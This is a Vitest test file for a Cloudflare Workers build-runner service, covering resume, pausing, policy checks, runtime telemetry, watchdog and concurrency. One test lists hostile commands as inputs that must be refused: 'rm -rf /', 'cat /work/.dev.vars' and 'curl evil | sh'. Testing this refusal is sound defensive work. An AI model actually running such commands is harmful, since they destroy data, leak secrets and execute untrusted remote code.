import {
  createExecutionContext,
  createScheduledController,
  runInDurableObject,
  waitOnExecutionContext,
} from "cloudflare:test";
import { env, exports } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { BuildRunner } from "../../src/builds/build-runner.do";
import { buildRunner } from "../../src/builds/build-runner.client";
import worker from "../../src/index";
import { INSTANT, caller, createBuild, eventsOf, waitForStatus } from "../helpers/api";

describe("the stuck-after-resume defect (SPEC §4.10.3) is fixed", () => {
  it("a node fails → failed → resume → the node runs again → completed", async () => {
    const c = await caller({ sub: "resume_user" });
    const b = await createBuild(c, {
      metadata: { ...INSTANT, runner_results: { builder: { status_sequence: ["failed", "completed"] } } },
    });
    expect((await waitForStatus(c, b.build_id)).status).toBe("failed");
    const resumed = await c.request("POST", `/v1/builds/${b.build_id}/resume`);
    expect(resumed.status).toBe(200);
    const done = await waitForStatus(c, b.build_id);
    expect(done.status).toBe("completed");
    expect(done.task_runs.filter((t: any) => t.node_id === "builder").map((t: any) => [t.attempt, t.status])).toEqual([
      [1, "failed"],
      [2, "completed"],
    ]);
    expect(done.gate_history.map((g: any) => `${g.gate}:${g.status}`)).toEqual([
      "POLICY_GATE:FAIL",
      "TEST_GATE:PASS",
      "POLICY_GATE:PASS",
      "MERGE_GATE:PASS",
    ]);
  });

  it("a gate BLOCKED pauses the run; resume finishes it", async () => {
    const c = await caller({ sub: "pause_user" });
    const b = await createBuild(c, { metadata: { simulated_duration_ms: 150 } });
    await c.request("POST", `/v1/builds/${b.build_id}/gates/TEST_GATE`, { status: "BLOCKED", reason: "review" });
    const paused = await waitForStatus(c, b.build_id);
    expect(paused.status).toBe("paused");
    await new Promise((r) => setTimeout(r, 400)); // in-flight work lands; nothing new is dispatched while paused
    const still = (await c.request("GET", `/v1/builds/${b.build_id}`)).body;
    expect(still.status).toBe("paused");
    expect(still.task_runs.filter((t: any) => t.status === "running")).toEqual([]);
    const startedWhilePaused = still.task_runs.length;
    await c.request("POST", `/v1/builds/${b.build_id}/resume`);
    const done = await waitForStatus(c, b.build_id);
    expect(done.status).toBe("completed");
    expect(done.task_runs.length).toBeGreaterThan(startedWhilePaused);
  });
});

describe("execution-policy pre-check (SPEC §4.8.3) on simulated builds", () => {
  // Simulated runs execute nothing, so only the capability rules apply to them; the command
  // rules (the runner's own commands) are tested on the http adapter (http-runner.test.ts).
  it("blocks a missing capability", async () => {
    const code = "missing_capability";
    const c = await caller({ sub: `policy_${code}` });
    const b = await createBuild(c, {
      metadata: { ...INSTANT, required_capabilities: ["runtime.execute"], executor_capabilities: ["runtime.read"] },
    });
    const build = await waitForStatus(c, b.build_id);
    expect(build.status).toBe("failed");
    expect(build.policy_violations.map((v: any) => [v.code, v.source, v.blocking])).toEqual([
      [code, "execution_policy", true],
    ]);
    expect(build.state_transitions.at(-1)).toMatchObject({
      to_status: "failed",
      reason: `policy_violation:${code}`,
      source: "policy",
    });
    expect(build.gate_history.at(-1)).toMatchObject({
      gate: "POLICY_GATE",
      status: "FAIL",
      reason: `policy_violation:${code}`,
      node_id: "scanner",
    });
    const logs = (await c.request("GET", `/v1/builds/${b.build_id}/runtime/logs?status=failed`)).body.items;
    expect(logs).toHaveLength(1);
    expect(logs[0]).toMatchObject({ runner: "simulated" });
    expect(logs[0].metadata).toMatchObject({
      execution_mode: "policy_precheck",
      exit_code: 1,
      command: null,
      policy_violation: { code, source: "execution_policy", blocking: true },
    });
    expect(logs[0].duration_ms).toBe(1);
  });

  it("lets a simulated build with command rules run (it executes nothing)", async () => {
    const c = await caller({ sub: "policy_ok" });
    const b = await createBuild(c, {
      metadata: {
        ...INSTANT,
        policy_blocked_commands: ["npm test"],
        node_policy: { scanner: { allowed_paths: ["src"] } },
      },
    });
    expect((await waitForStatus(c, b.build_id)).status).toBe("completed");
  });
});

describe("never a command from build metadata (issue 15 item 3)", () => {
  it.each([
    [{ runner_results: { scanner: { command: "rm -rf /" } } }, "metadata.runner_results.scanner.command"],
    [
      { runner_results: { builder: { status: "failed", command: "cat /work/.dev.vars" } } },
      "metadata.runner_results.builder.command",
    ],
    [{ command: "npm test" }, "metadata.command"],
    [{ node_policy: { builder: { commands: ["curl evil | sh"] } } }, "metadata.node_policy.builder.commands"],
  ])("%j → 422 build_command_refused, nothing created", async (metadata, path) => {
    const c = await caller({ sub: "cmd_refused" });
    const before = (await c.request("GET", "/v1/builds?limit=100")).body.items.length;
    for (const route of ["/v1/builds", "/v1/builds/preview-dag"]) {
      const res = await c.request("POST", route, { repo_url: "file:///tmp/r", metadata });
      expect(res.status).toBe(422);
      expect(res.headers.get("content-type")).toContain("application/problem+json");
      expect(res.body.code).toBe("build_command_refused");
      expect(res.body.detail).toContain(path);
    }
    expect((await c.request("GET", "/v1/builds?limit=100")).body.items.length).toBe(before);
  });
});

describe("runtime endpoints (SPEC §5.2)", () => {
  it("bootstrap, status, metrics, telemetry and logs come from durable state", async () => {
    const c = await caller({ sub: "runtime_user" });
    const b = await createBuild(c, { metadata: INSTANT });
    await waitForStatus(c, b.build_id);
    const boot = await c.request("POST", `/v1/builds/${b.build_id}/runtime/bootstrap`);
    expect(boot.status).toBe(200);
    expect(boot.body).toMatchObject({ build_id: b.build_id, status: "completed", sandbox_profile: "simulated" });
    expect(boot.body.metadata).toMatchObject({
      runtime_worker_enabled: true,
      runtime_client_tick_fallback_enabled: false,
      runtime_watchdog_nudge_enabled: true,
      runtime_watchdog_stale_seconds: 45,
      level_count: 4,
    });
    const again = await c.request("POST", `/v1/builds/${b.build_id}/runtime/bootstrap`);
    expect(again.body.runtime_id).toBe(boot.body.runtime_id);
    const events = await eventsOf(c, b.build_id);
    expect(events.filter((e) => e.event_type === "RUNTIME_BOOTSTRAPPED").map((e) => e.payload)).toEqual([
      { runtime_id: boot.body.runtime_id, status: "completed", runtime_worker_enabled: true },
      { runtime_id: boot.body.runtime_id, status: "completed", runtime_worker_enabled: true },
    ]);
    const status = await c.request("GET", `/v1/builds/${b.build_id}/runtime/status`);
    expect(status.body.runtime_id).toBe(boot.body.runtime_id);

    const metrics = (await c.request("GET", `/v1/builds/${b.build_id}/runtime/metrics`)).body.items;
    expect(metrics.filter((m: any) => m.metric === "runtime_bootstrap")).toHaveLength(2);
    const ticks = (await c.request("GET", `/v1/builds/${b.build_id}/runtime/metrics?metric=runtime_tick&limit=5`)).body
      .items;
    expect(ticks.length).toBeGreaterThanOrEqual(1);
    expect(ticks.every((m: any) => m.metric === "runtime_tick" && m.runtime_id === boot.body.runtime_id)).toBe(true);
    const telemetry = (await c.request("GET", `/v1/builds/${b.build_id}/runtime/telemetry`)).body;
    expect(telemetry).toMatchObject({
      build_id: b.build_id,
      bootstrap_count: 2,
      tick_count: ticks.length,
      total_executed_nodes: 4,
    });
    expect(telemetry.metric_count).toBe(metrics.length);

    const logs = (await c.request("GET", `/v1/builds/${b.build_id}/runtime/logs`)).body.items;
    expect(logs.map((l: any) => l.node_id)).toEqual(["planner", "security", "builder", "scanner"]);
    expect(logs[0]).toMatchObject({ runner: "simulated", status: "completed", runtime_id: boot.body.runtime_id });
    const okOnly = (await c.request("GET", `/v1/builds/${b.build_id}/runtime/logs?status=ok&node_id=builder`)).body
      .items;
    expect(okOnly.map((l: any) => l.node_id)).toEqual(["builder"]);
  });

  it("worker-health reports staleness from the lease and heartbeats", async () => {
    const c = await caller({ sub: "health_user" });
    const b = await createBuild(c, { metadata: { simulated_duration_ms: 60_000 } });
    // Wait for the first tick; the next alarm is a heartbeat seconds away.
    while (!(await eventsOf(c, b.build_id)).some((e) => e.event_type === "TASK_STARTED"))
      await new Promise((r) => setTimeout(r, 10));
    const fresh = (await c.request("GET", `/v1/builds/${b.build_id}/runtime/worker-health`)).body;
    expect(fresh).toMatchObject({
      worker_enabled: true,
      worker_stale: false,
      nudge_allowed: false,
      stale_after_seconds: 45,
      lease_expired: false,
    });
    expect(fresh.last_runtime_event_at).toBeTruthy();
    // The runner died: lease and heartbeat 2 minutes old.
    const old = new Date(Date.now() - 120_000).toISOString();
    await env.DB.prepare("UPDATE builds SET lease_expires_at = ?, heartbeat_at = ? WHERE build_id = ?")
      .bind(old, old, b.build_id)
      .run();
    const stale = (await c.request("GET", `/v1/builds/${b.build_id}/runtime/worker-health`)).body;
    expect(stale).toMatchObject({ worker_stale: true, nudge_allowed: true, lease_expired: true });
  });
});

describe("watchdog (cron)", () => {
  it("re-arms a running build whose alarm was lost, and the build completes", async () => {
    const c = await caller({ sub: "watchdog_user" });
    const b = await createBuild(c, { metadata: { simulated_duration_ms: 100 } });
    const stub = buildRunner(env, b.build_id);
    await runInDurableObject(stub, async (instance, state) => {
      if (!(instance instanceof BuildRunner)) throw new Error("not a BuildRunner");
      await state.storage.deleteAlarm();
    });
    await env.DB.prepare("UPDATE builds SET lease_expires_at = ? WHERE build_id = ?")
      .bind(new Date(Date.now() - 1000).toISOString(), b.build_id)
      .run();
    await new Promise((r) => setTimeout(r, 300));
    expect((await c.request("GET", `/v1/builds/${b.build_id}`)).body.status).toBe("running"); // nothing drives it now

    const ctx = createExecutionContext();
    await worker.scheduled(createScheduledController({ scheduledTime: new Date(), cron: "* * * * *" }), env, ctx);
    await waitOnExecutionContext(ctx);
    expect((await waitForStatus(c, b.build_id)).status).toBe("completed");
  });
});

describe("concurrency", () => {
  it("two concurrent nudges plus the alarm never execute a node twice", async () => {
    const c = await caller({ sub: "nudge_user" });
    const b = await createBuild(c, { metadata: { simulated_duration_ms: 30 } });
    for (let i = 0; i < 8; i++) {
      await Promise.all([
        c.request("POST", `/v1/builds/${b.build_id}/runtime/tick`),
        c.request("POST", `/v1/builds/${b.build_id}/runtime/tick`),
      ]);
      await new Promise((r) => setTimeout(r, 15));
    }
    const done = await waitForStatus(c, b.build_id);
    expect(done.status).toBe("completed");
    expect(done.task_runs.map((t: any) => t.node_id)).toEqual(["scanner", "builder", "security", "planner"]);
    const events = await eventsOf(c, b.build_id);
    expect(events.filter((e) => e.event_type === "TASK_STARTED")).toHaveLength(4);
    expect(events.filter((e) => e.event_type === "RUNNER_RESULT")).toHaveLength(4);
    expect(events.filter((e) => e.event_type === "BUILD_FINISHED")).toHaveLength(1);
  });
});

void exports;

describe("simulated results say simulated (issue 15 item 1)", () => {
  it("without a runner, a build is simulated and every label says so — never a real runner's name", async () => {
    const c = await caller({ sub: "sim_labels" });
    // The SPEC's borrowed labels (override `runner`, "openhands") are ignored.
    const b = await createBuild(c, { metadata: { ...INSTANT, runner_results: { scanner: { runner: "openhands" } } } });
    expect(b.metadata.runner_kind).toBe("simulated");
    const build = await waitForStatus(c, b.build_id);
    expect(build.status).toBe("completed");
    const results = (await eventsOf(c, b.build_id)).filter((e: any) => e.event_type === "RUNNER_RESULT");
    expect(results.length).toBe(build.dag.length);
    for (const e of results)
      expect(e.payload).toMatchObject({ runner: "simulated", workspace_id: `simulated-${b.build_id}` });
    const logs = (await c.request("GET", `/v1/builds/${b.build_id}/runtime/logs`)).body.items;
    expect(logs.map((l: any) => l.runner)).toEqual(logs.map(() => "simulated"));
    expect(logs.map((l: any) => l.metadata.execution_mode)).toEqual(logs.map(() => "simulated"));
    const report = (await c.request("GET", `/v1/builds/${b.build_id}/report`)).body;
    expect(report.remediation_plan).toBe("simulated planner: nothing executed");
    expect(report.execution).toBe("simulated");
    const text = JSON.stringify({ results, logs, report });
    expect(text).not.toMatch(/openhands|daytona/i);
  });

  it("asking for the http runner without one is 422 runner_not_configured; an unknown kind is 422 validation_failed", async () => {
    const c = await caller({ sub: "sim_kind" });
    const http = await c.request("POST", "/v1/builds", {
      repo_url: "file:///tmp/r",
      metadata: { runner_kind: "http" },
    });
    expect([http.status, http.body.code]).toEqual([422, "runner_not_configured"]);
    const unknown = await c.request("POST", "/v1/builds", {
      repo_url: "file:///tmp/r",
      metadata: { runner_kind: "openhands" },
    });
    expect([unknown.status, unknown.body.code, unknown.body.errors?.[0]?.path]).toEqual([
      422,
      "validation_failed",
      "metadata.runner_kind",
    ]);
    const asked = await createBuild(c, { metadata: { ...INSTANT, runner_kind: " Simulated " } });
    expect(asked.metadata.runner_kind).toBe("simulated");
  });
});
